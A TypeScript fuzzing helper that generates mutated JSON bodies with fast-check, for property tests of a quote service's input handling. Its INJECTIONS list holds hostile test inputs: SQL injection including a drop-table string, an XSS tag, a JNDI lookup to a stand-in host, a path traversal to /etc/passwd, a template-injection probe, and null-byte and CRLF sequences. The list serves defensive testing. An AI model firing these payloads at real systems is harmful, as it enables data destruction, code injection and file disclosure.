import fc from 'fast-check';

// Bodies generated from valid ones, for the property tests of what goes in (bad-input.test.ts)
// and what comes out (quote-json.test.ts): any field replaced with junk, removed, or joined by one
// the contract does not know.

/** Text an attacker tries in any field. */
export const INJECTIONS = [
  "'; drop table quote; --",
  '" OR 1=1 --',
  '<script>alert(1)</script>',
  '${jndi:ldap://example.invalid/a}',
  '../../../../etc/passwd',
  '\u0000',
  '{{7*7}}',
  '%00%0d%0a',
];

/** Any JSON value, the injections, and numbers and text at their edges. */
export const junk = fc.oneof(
  fc.constant(null),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.string(),
  fc.constantFrom(...INJECTIONS),
  fc.array(fc.jsonValue(), { maxLength: 3 }),
  fc.dictionary(fc.string(), fc.jsonValue(), { maxKeys: 3 }),
  fc.constant('9'.repeat(400)),
  fc.constant(-1e308),
);

/** Every path to a value inside `value`, so a mutation can reach any field it has. */
export function paths(value: unknown, prefix: string[] = []): string[][] {
  if (value === null || typeof value !== 'object') return [prefix];
  const entries = Array.isArray(value)
    ? value.map((item, i) => [String(i), item] as const)
    : Object.entries(value);
  return [prefix, ...entries.flatMap(([key, item]) => paths(item, [...prefix, key]))];
}

export type Mutation =
  | { kind: 'replace'; junk: unknown }
  | { kind: 'remove' }
  | { kind: 'add'; key: string; junk: unknown };

/** A copy of `value` with the mutation made at `path` (an add needs an object there). */
export function mutate(value: unknown, path: string[], mutation: Mutation): unknown {
  const copy = structuredClone(value) as Record<string, unknown>;
  if (path.length === 0) return mutation.kind === 'replace' ? mutation.junk : copy;
  let node = copy;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string, unknown>;
  const last = path.at(-1)!;
  if (mutation.kind === 'remove') delete node[last];
  else if (mutation.kind === 'replace') node[last] = mutation.junk;
  else if (typeof node[last] === 'object' && node[last] !== null) {
    (node[last] as Record<string, unknown>)[mutation.key] = mutation.junk;
  }
  return copy;
}
